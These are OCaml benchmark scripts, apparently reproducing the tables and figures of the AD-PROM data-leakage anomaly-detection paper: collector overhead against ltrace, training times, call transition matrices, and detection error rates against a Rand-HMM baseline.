bench/exp_tables12.ml: Adprom Analysis Applang Common List Printf

bench/common.ml: Adprom Dataset Lazy Printf Unix

(* Table IV: statistics about the SIR-dataset stand-ins. Coverage is
   call-site coverage (see DESIGN.md for the substitution note). *)

let run () =
  Common.heading "Table IV: Statistics about the SIR-dataset";
  let row (label, trained) =
    let t = Lazy.force trained in
    let ds = t.Common.dataset in
    let coverage =
      Dataset.Sir.site_coverage ds.Adprom.Pipeline.analysis ds.Adprom.Pipeline.traces
    in
    let events =
      List.fold_left (fun acc (_, tr) -> acc + Array.length tr) 0 ds.Adprom.Pipeline.traces
    in
    [
      label;
      string_of_int (List.length ds.Adprom.Pipeline.traces);
      Adprom.Report.percent_cell coverage;
      string_of_int events;
      string_of_int (List.length ds.Adprom.Pipeline.windows);
    ]
  in
  Adprom.Report.print
    ~header:[ "App"; "#Test Cases"; "Site Coverage"; "Trace events"; "Sequences" ]
    (List.map row (Common.sir_all ()))

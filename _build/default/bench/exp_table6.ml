(* Table VI: Calls Collector vs ltrace performance. Each test case runs
   under three collectors — null (baseline), AD-PROM's, and the
   simulated ltrace — and the table reports the per-run collection
   overhead (time over baseline) plus the overhead decrease, the
   paper's headline ~78% average. *)

let repetitions = 40
let trials = 5

(* Best-of-[trials] mean over [repetitions] runs: robust against GC and
   scheduler noise on these sub-millisecond workloads. *)
let measure app analysis tc collector =
  let engine = Adprom.Pipeline.fresh_engine app in
  ignore (Runtime.Interp.run ~collector ~analysis ~engine tc);
  let best = ref infinity in
  for _ = 1 to trials do
    let t0 = Unix.gettimeofday () in
    for _ = 1 to repetitions do
      let engine = Adprom.Pipeline.fresh_engine app in
      ignore (Runtime.Interp.run ~collector ~analysis ~engine tc)
    done;
    best := Float.min !best ((Unix.gettimeofday () -. t0) /. float_of_int repetitions)
  done;
  !best

let run () =
  Common.heading "Table VI: Calls Collector vs ltrace performance (seconds/run)";
  let market = (Lazy.force Common.ca_supermarket).Common.dataset in
  let bank = (Lazy.force Common.ca_banking).Common.dataset in
  let cases =
    [
      (* print-heavy: long inventory listings *)
      ( "1 (print-heavy)",
        market.Adprom.Pipeline.app,
        market.Adprom.Pipeline.analysis,
        Runtime.Testcase.make ~input:([ "5"; "8" ] @ [ "0" ]) "t6-1" );
      ( "2 (print-heavy)",
        market.Adprom.Pipeline.app,
        market.Adprom.Pipeline.analysis,
        Runtime.Testcase.make
          ~input:(List.concat (List.init 8 (fun _ -> [ "5"; "8" ])) @ [ "0" ])
          "t6-2" );
      (* query-heavy: many statements, few prints *)
      ( "3 (query-heavy)",
        bank.Adprom.Pipeline.app,
        bank.Adprom.Pipeline.analysis,
        Runtime.Testcase.make
          ~input:[ "2"; "101"; "10"; "3"; "102"; "5"; "4"; "103"; "104"; "5"; "0" ]
          "t6-3" );
      ( "4 (query-heavy)",
        bank.Adprom.Pipeline.app,
        bank.Adprom.Pipeline.analysis,
        Runtime.Testcase.make ~input:[ "2"; "105"; "25"; "6"; "0" ] "t6-4" );
    ]
  in
  let rows =
    List.map
      (fun (label, app, analysis, tc) ->
        let base = measure app analysis tc Runtime.Collector.null in
        let adprom_collector () = fst (Runtime.Collector.adprom ()) in
        let t_adprom = measure app analysis tc (adprom_collector ()) in
        let symtab = Runtime.Ltrace.symtab_of_cfgs analysis.Analysis.Analyzer.cfgs in
        let lt, _, _ = Runtime.Ltrace.make ~symtab in
        let t_ltrace = measure app analysis tc lt in
        let over_ltrace = Float.max 1e-9 (t_ltrace -. base) in
        let over_adprom = Float.max 0.0 (t_adprom -. base) in
        let decrease = (over_ltrace -. over_adprom) /. over_ltrace in
        [
          label;
          Adprom.Report.float_cell ~digits:6 over_ltrace;
          Adprom.Report.float_cell ~digits:6 over_adprom;
          Adprom.Report.percent_cell decrease;
        ])
      cases
  in
  Adprom.Report.print
    ~header:[ "Test case"; "ltrace"; "Calls Collector"; "Overhead Decrease" ]
    rows;
  let avg =
    let ds =
      List.map
        (fun row ->
          match row with
          | [ _; _; _; pct ] -> float_of_string (String.sub pct 0 (String.length pct - 1))
          | _ -> 0.0)
        rows
    in
    List.fold_left ( +. ) 0.0 ds /. float_of_int (List.length ds)
  in
  Printf.printf "\nAverage overhead decrease: %.2f%% (paper: 78.29%%)\n" avg

(* Table VIII: elapsed time of the pre-training steps — building the
   CFGs, estimating probabilities (CTMs), and aggregating to the pCTM —
   measured directly on each SIR subject. *)

let run () =
  Common.heading "Table VIII: Elapsed time to perform training steps (seconds)";
  let rows =
    List.map
      (fun (label, trained) ->
        let t = Lazy.force trained in
        let source = t.Common.dataset.Adprom.Pipeline.app.Adprom.Pipeline.source in
        let program = Applang.Parser.parse_program source in
        let (cfgs, _), t_cfg =
          Common.time (fun () -> Analysis.Cfg_build.build_program program)
        in
        let _labels, t_taint = Common.time (fun () -> Analysis.Taint.analyze cfgs) in
        let ctms, t_prob = Common.time (fun () -> Analysis.Forecast.ctms cfgs) in
        let callgraph = Analysis.Callgraph.build cfgs in
        let _pctm, t_agg =
          Common.time (fun () -> Analysis.Aggregate.program_ctm ctms callgraph ~entry:"main")
        in
        [
          label;
          Adprom.Report.float_cell ~digits:4 t_cfg;
          Adprom.Report.float_cell ~digits:4 (t_prob +. t_taint);
          Adprom.Report.float_cell ~digits:4 t_agg;
          Adprom.Report.float_cell ~digits:1 !(t.Common.train_seconds);
        ])
      (Common.sir_all ())
  in
  Adprom.Report.print
    ~header:[ "Time (sec)"; "Build CFG"; "Probabilities Est."; "Aggregation"; "HMM training" ]
    rows;
  Printf.printf
    "\n(HMM training time is 0.0 if the Fig. 10 / Table VII experiments were\n\
     not run in the same invocation; run `all` for the full picture.)\n"

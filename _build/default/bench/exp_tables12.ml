(* Tables I and II: the per-function CTMs of the Fig. 3 example program,
   plus the aggregated pCTM (the paper shows the first two; we print all
   three with the invariants checked). *)

module Symbol = Analysis.Symbol
module Ctm = Analysis.Ctm

let fig3_source =
  {|
fun main() {
  if (x > 0) {
    printf("one");
  } else {
    printf("two");
    if (y > 0) {
      let r = pq_exec(conn, "SELECT * FROM items");
      f(r);
    }
  }
}

fun f(r) {
  if (a > 0) {
    printf("plain");
  } else {
    if (b > 0) {
      printf("%s", r);
    }
  }
}
|}

let print_ctm title ctm =
  let syms = Symbol.Entry :: Ctm.calls ctm in
  let cols = Ctm.calls ctm @ [ Symbol.Exit ] in
  let header = "" :: List.map Symbol.to_string cols in
  let rows =
    List.filter_map
      (fun a ->
        let cells = List.map (fun b -> Adprom.Report.float_cell ~digits:4 (Ctm.get ctm a b)) cols in
        if List.for_all (( = ) "0.0000") cells then None
        else Some (Symbol.to_string a :: cells))
      syms
  in
  print_string (Adprom.Report.table ~title ~header rows)

let run () =
  Common.heading "Tables I & II: CTMs of the Fig. 3 program (probability forecast)";
  let analysis = Analysis.Analyzer.analyze (Applang.Parser.parse_program fig3_source) in
  print_ctm "Table I: CTM of main()  (mCTM)" (List.assoc "main" analysis.Analysis.Analyzer.ctms);
  print_newline ();
  print_ctm "Table II: CTM of f()  (fCTM)" (List.assoc "f" analysis.Analysis.Analyzer.ctms);
  print_newline ();
  print_ctm "Aggregated program CTM (pCTM)" analysis.Analysis.Analyzer.pctm;
  Printf.printf "\npCTM invariants (entry row = 1, exit col = 1, flow conserved): %b\n"
    (Ctm.conserved analysis.Analysis.Analyzer.pctm)

(* Fig. 10: FN rate vs FP rate for AD-PROM vs Rand-HMM on each SIR
   subject. Normal scores come from the app's Normal-sequences,
   anomalous scores from A-S1 sequences (tail replaced by random
   legitimate calls); the threshold sweep trades FP for FN, and the
   series is printed at fixed FP grid points as in the figure. *)

let anomaly_count = 250
let fp_grid = [ 0.001; 0.002; 0.005; 0.01; 0.02; 0.05; 0.1 ]

let scores profile windows =
  Array.of_list (List.map (fun w -> Adprom.Profile.score profile w) windows)

(* FN rate at the largest threshold whose FP rate stays within the
   budget (scores below threshold are flagged). *)
let fn_at_fp ~normal ~anomalous budget =
  let thresholds =
    Adprom.Evaluation.sweep_thresholds ~normal_scores:normal ~anomalous_scores:anomalous 400
  in
  let curve =
    Adprom.Evaluation.curve ~normal_scores:normal ~anomalous_scores:anomalous ~thresholds
  in
  let admissible = List.filter (fun (_, fp, _) -> fp <= budget) curve in
  match List.rev admissible with
  | (_, _, fn) :: _ -> fn
  | [] -> 1.0

let run () =
  Common.heading "Fig. 10: FN rate vs FP rate, AD-PROM vs Rand-HMM (SIR apps)";
  List.iter
    (fun (label, trained) ->
      let t = Lazy.force trained in
      let ds = t.Common.dataset in
      let rng = Mlkit.Rng.create 1234 in
      let adprom = Lazy.force t.Common.adprom in
      let rand_hmm = Lazy.force t.Common.rand_hmm in
      let pool = ds.Adprom.Pipeline.windows in
      let anomalies =
        Attack.Synthetic.batch ~rng
          ~legitimate:adprom.Adprom.Profile.alphabet ~kind:`S1 ~count:anomaly_count pool
      in
      let series profile =
        let normal = scores profile pool in
        let anomalous = scores profile anomalies in
        List.map (fun fp -> fn_at_fp ~normal ~anomalous fp) fp_grid
      in
      let s_adprom = series adprom in
      let s_rand = series rand_hmm in
      let rows =
        List.map2
          (fun fp (fn_a, fn_r) ->
            [
              Printf.sprintf "%.3f" fp;
              Adprom.Report.float_cell ~digits:4 fn_a;
              Adprom.Report.float_cell ~digits:4 fn_r;
            ])
          fp_grid
          (List.combine s_adprom s_rand)
      in
      print_newline ();
      Adprom.Report.print
        ~title:(Printf.sprintf "Fig. 10 (%s): FN rate at fixed FP rate" label)
        ~header:[ "FP rate"; "AD-PROM FN"; "Rand-HMM FN" ]
        rows)
    (Common.sir_all ());
  Printf.printf
    "\nExpected shape (paper): AD-PROM's FN is well below Rand-HMM's at every\n\
     FP budget, on every application.\n"

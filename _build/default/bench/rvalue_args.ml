(* A representative argument value for the collector micro-benchmarks. *)
let sample = Runtime.Rvalue.str "SELECT id, name, balance FROM clients WHERE id = 105"
